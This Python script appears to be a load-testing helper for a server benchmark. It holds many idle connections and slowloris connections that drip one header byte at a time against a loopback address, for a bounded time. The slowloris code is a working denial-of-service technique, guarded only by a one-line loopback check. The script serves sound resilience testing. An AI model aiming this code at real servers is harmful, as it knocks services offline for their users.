#!/usr/bin/env python3
"""Hostile clients for bench/hostile.sh, on loopback only, bounded in time.

usage: attack.py HOST PORT IDLE SLOW SLOW_INTERVAL SECONDS

Holds IDLE connections that send nothing and SLOW slowloris connections that send
"GET / HTTP/1.1\\r\\n" and then one header byte every SLOW_INTERVAL seconds. A connection the
server closes is reopened at once (what an attacker does), so the pressure stays for SECONDS.
Prints "ready <idle> <slow>" once every connection is open, and at the end one line:
"done opened=<n> closed_by_server=<n> held_idle=<n> held_slow=<n>".
"""
import errno
import resource
import selectors
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
n_idle, n_slow = int(sys.argv[3]), int(sys.argv[4])
interval, seconds = float(sys.argv[5]), float(sys.argv[6])
if host not in ("127.0.0.1", "localhost", "::1"):
    sys.exit("loopback only")

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

sel = selectors.DefaultSelector()
opened = closed = 0
conns = {}  # socket -> kind


def open_one(kind):
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    err = s.connect_ex((host, port))
    if err not in (0, errno.EINPROGRESS):
        s.close()
        return False
    opened += 1
    conns[s] = kind
    sel.register(s, selectors.EVENT_READ, kind)
    if kind == "slow":
        try:
            s.send(b"GET / HTTP/1.1\r\n")
        except OSError:
            pass
    return True


def drop(s):
    global closed
    closed += 1
    sel.unregister(s)
    kind = conns.pop(s)
    s.close()
    return kind


deadline = time.monotonic() + seconds
for _ in range(n_idle):
    open_one("idle")
for _ in range(n_slow):
    open_one("slow")
print(f"ready {sum(1 for k in conns.values() if k == 'idle')} "
      f"{sum(1 for k in conns.values() if k == 'slow')}", flush=True)

next_drip = time.monotonic() + interval
while time.monotonic() < deadline:
    timeout = max(0.0, min(next_drip, deadline) - time.monotonic())
    for key, _ in sel.select(timeout):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server (or refused): reopen
            kind = drop(s)
            open_one(kind)
    if time.monotonic() >= next_drip:
        next_drip += interval
        for s, kind in list(conns.items()):
            if kind == "slow":
                try:
                    s.send(b"x")
                except OSError:
                    kind = drop(s)
                    open_one(kind)

held_idle = sum(1 for k in conns.values() if k == "idle")
held_slow = sum(1 for k in conns.values() if k == "slow")
print(f"done opened={opened} closed_by_server={closed} held_idle={held_idle} "
      f"held_slow={held_slow}", flush=True)
